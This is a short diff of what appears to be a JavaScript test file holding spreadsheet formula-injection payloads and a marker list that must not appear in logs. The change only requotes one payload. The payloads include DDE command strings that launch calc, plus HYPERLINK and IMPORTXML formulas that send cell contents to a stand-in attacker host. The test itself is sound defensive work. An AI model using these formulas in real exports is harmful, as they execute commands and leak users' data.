@@ -20,7 +20,7 @@ const PAYLOADS = [
   "\t=cmd|' /C calc'!A0",
   "\r=cmd|' /C calc'!A0",
   '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
-  "=IMPORTXML(CONCAT(\"https://angripare.example/?\";B2);\"//a\")"
+  '=IMPORTXML(CONCAT("https://angripare.example/?";B2);"//a")'
 ]
 /** Substrings that only the payloads contain: none may appear in any log line. */
 const MARKERS = ["calc'!A0", 'cmd|', 'HYPERLINK', 'IMPORTXML', 'angripare.example', 'SUM(1+1)']
